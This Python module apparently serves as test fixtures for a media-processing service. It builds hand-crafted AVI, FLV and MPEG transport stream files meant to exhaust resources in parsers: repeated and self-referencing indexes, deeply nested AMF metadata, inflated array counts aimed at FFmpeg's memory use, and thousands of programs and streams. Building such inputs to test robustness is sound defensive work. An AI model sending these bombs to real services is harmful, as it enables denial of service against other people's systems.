"""Recordings whose indexes and tables are made to do harm: AVI, FLV and MPEG transport streams, written by hand."""

import struct
from collections.abc import Callable, Iterable

# AVI (Microsoft's AVI RIFF File Reference, and the OpenDML AVI File Format Extensions 1.02)

AUDIO_CHUNK = b"00wb"


def riff_chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def riff_list(kind: bytes, *inside: bytes) -> bytes:
    return riff_chunk(b"LIST", kind + b"".join(inside))


def avi(*in_movie: bytes, streams: int = 1, in_stream: bytes = b"", after: bytes = b"") -> bytes:
    """An AVI of 16 kHz mono PCM.

    Args:
        in_movie: the chunks of its `movi` list.
        in_stream: chunks of each stream's header.
        after: chunks behind the `movi` list.
    """
    main = riff_chunk(b"avih", struct.pack("<10I16x", 0, 32_000, 0, 0x10, 100, 0, streams, 0, 0, 0))
    rates = struct.pack("<IIHHIIIIIIII8x", 0, 0, 0, 0, 0, 1, 16_000, 0, 16_000, 4096, 0xFFFFFFFF, 2)
    wave = riff_chunk(b"strf", struct.pack("<HHIIHH", 1, 1, 16_000, 32_000, 2, 16))
    stream = riff_list(b"strl", riff_chunk(b"strh", b"auds" + rates), wave, in_stream)
    body = b"AVI " + riff_list(b"hdrl", main, stream * streams) + riff_list(b"movi", *in_movie) + after
    return b"RIFF" + struct.pack("<I", len(body)) + body


def avi_samples(count: int) -> bytes:
    return riff_chunk(AUDIO_CHUNK, bytes(2 * count))


def avi_index_bomb(entries: int = 400_000) -> bytes:
    """An old index that names the same two bytes again and again."""
    index = struct.pack("<4sIII", AUDIO_CHUNK, 0x10, 4, 2) * entries
    return avi(avi_samples(16_000), after=riff_chunk(b"idx1", index))


def avi_super_index_bomb(supers: int = 60_000, entries: int = 60_000) -> bytes:
    """A super index whose entries all lead to the same index: 3.6 thousand million entries in 1.4 MB."""
    spots = b"".join(struct.pack("<II", 100 + 2 * number, 2) for number in range(entries))
    index = riff_chunk(b"ix00", struct.pack("<HBBI4sQI", 2, 0, 1, entries, AUDIO_CHUNK, 0, 0) + spots)
    return _avi_with_super_index(index, supers)


def avi_circle_bomb(entries: int = 1_000) -> bytes:
    """Super indexes that lead to themselves."""
    return _avi_with_super_index(b"", entries)


def _avi_with_super_index(index: bytes, entries: int) -> bytes:
    def super_index(target: int) -> bytes:
        head = struct.pack("<HBBI4s12x", 4, 0, 0, entries, AUDIO_CHUNK)
        return riff_chunk(b"indx", head + struct.pack("<QII", target, len(index), 1) * entries)

    def whole(target: int) -> bytes:
        return avi(avi_samples(16_000), index, in_stream=super_index(target))

    draft = whole(0)
    return whole(draft.index(b"ix00" if index else b"indx"))


def avi_streams_bomb(streams: int = 20_000) -> bytes:
    return avi(avi_samples(16_000), streams=streams)


# FLV (Adobe Flash Video File Format Specification 10.1, annex E), whose metadata are AMF 0


def flv_tag(kind: int, body: bytes) -> bytes:
    tag = bytes([kind]) + len(body).to_bytes(3, "big") + bytes(7) + body
    return tag + struct.pack(">I", len(tag))


def amf_name(text: bytes) -> bytes:
    return struct.pack(">H", len(text)) + text


def flv(metadata: bytes) -> bytes:
    """A second of PCM behind these members of onMetaData."""
    script = b"\x02" + amf_name(b"onMetaData") + b"\x08\0\0\0\1" + metadata + b"\0\0\x09"
    sound = b"".join(flv_tag(8, b"\x3e" + bytes(2000)) for _ in range(44))
    return b"FLV\x01\x05\0\0\0\x09\0\0\0\0" + flv_tag(18, script) + sound


def flv_keyframes(count: int = 400_000, claimed: int = 0, repeated: int = 1) -> bytes:
    """An index of the video's key frames.

    Args:
        claimed: entries that each of its arrays says it has; 0: as many as there are.
        repeated: times that each array is there.
    """
    numbers = b"".join(b"\0" + struct.pack(">d", number) for number in range(count))
    array = b"\x0a" + struct.pack(">I", claimed or count) + numbers
    arrays = (amf_name(b"filepositions") + array + amf_name(b"times") + array) * repeated
    return flv(amf_name(b"keyframes") + b"\x03" + arrays + b"\0\0\x09")


def flv_claims_bomb() -> bytes:
    """Arrays of a few bytes for each of which FFmpeg takes 2 GB."""
    return flv_keyframes(0, claimed=(1 << 28) - 1, repeated=100_000)


def flv_depth_bomb(depth: int = 100_000) -> bytes:
    return flv((amf_name(b"a") + b"\x03") * depth)


# MPEG transport stream (ISO/IEC 13818-1, section 2.4)

FIRST_PID = 0x20
LAST_PID = 0x1FFE
MAX_SECTION = 250
"""Programs in one section of the program association table."""


def crc_mpeg(data: bytes) -> int:
    value = 0xFFFFFFFF
    for byte in data:
        value ^= byte << 24
        for _ in range(8):
            value = (value << 1 ^ (0x04C11DB7 if value & 0x80000000 else 0)) & 0xFFFFFFFF
    return value


def ts_section(table: int, number: int, body: bytes, part: int = 0, last: int = 0) -> bytes:
    inside = struct.pack(">HBBB", number, 0xC1, part, last) + body
    section = bytes([table]) + struct.pack(">H", 0xB000 | (len(inside) + 4)) + inside
    return section + struct.pack(">I", crc_mpeg(section))


def ts_packets(pid: int, section: bytes) -> bytes:
    content = b"\0" + section
    packets = []
    for number, at in enumerate(range(0, len(content), 184)):
        piece = content[at : at + 184].ljust(184, b"\xff")
        packets.append(struct.pack(">BHB", 0x47, (0 if number else 0x4000) | pid, 0x10 | number & 15) + piece)
    return b"".join(packets)


def ts_programs_bomb(programs: int = 400, streams: int = 190) -> bytes:
    """Many programs, each of many streams of audio."""
    return _ts_tables(range(programs), streams)


def ts_open_streams_bomb(programs: int = 40, streams: int = 190) -> bytes:
    """The same, and in each stream the beginning of a packet that has no end."""
    begun = b"\0\0\1\xc0\0\0\x80\0\0".ljust(184, b"\0")
    pids = range(FIRST_PID + programs, min(LAST_PID, FIRST_PID + programs * (streams + 1)))
    opened = b"".join(struct.pack(">BHB", 0x47, 0x4000 | pid, 0x10) + begun for pid in pids)
    return _ts_tables(range(programs), streams) + opened


def _ts_tables(programs: range, streams: int) -> bytes:
    sections = [programs[at : at + MAX_SECTION] for at in range(0, len(programs), MAX_SECTION)]
    association = b"".join(
        ts_packets(0, ts_section(0, 1, _program_pids(section), number, len(sections) - 1))
        for number, section in enumerate(sections)
    )
    return association + b"".join(_program_map(program, len(programs), streams) for program in programs)


def _program_pids(programs: Iterable[int]) -> bytes:
    return b"".join(struct.pack(">HH", program + 1, 0xE000 | FIRST_PID + program) for program in programs)


def _program_map(program: int, programs: int, streams: int) -> bytes:
    first = FIRST_PID + programs + program * streams
    pids = (FIRST_PID + (first + number - FIRST_PID) % (LAST_PID - FIRST_PID) for number in range(streams))
    audio = b"".join(struct.pack(">BHH", 3, 0xE000 | pid, 0xF000) for pid in pids)
    section = ts_section(2, program + 1, struct.pack(">HH", 0xE000 | 0x1FFF, 0xF000) + audio)
    return ts_packets(FIRST_PID + program, section)


TABLE_BOMBS: dict[str, Callable[[], bytes]] = {
    "avi index": avi_index_bomb,
    "avi super index": avi_super_index_bomb,
    "avi circle": avi_circle_bomb,
    "avi streams": avi_streams_bomb,
    "flv key frames": flv_keyframes,
    "flv claims": flv_claims_bomb,
    "flv depth": flv_depth_bomb,
    "ts programs": ts_programs_bomb,
    "ts open streams": ts_open_streams_bomb,
}
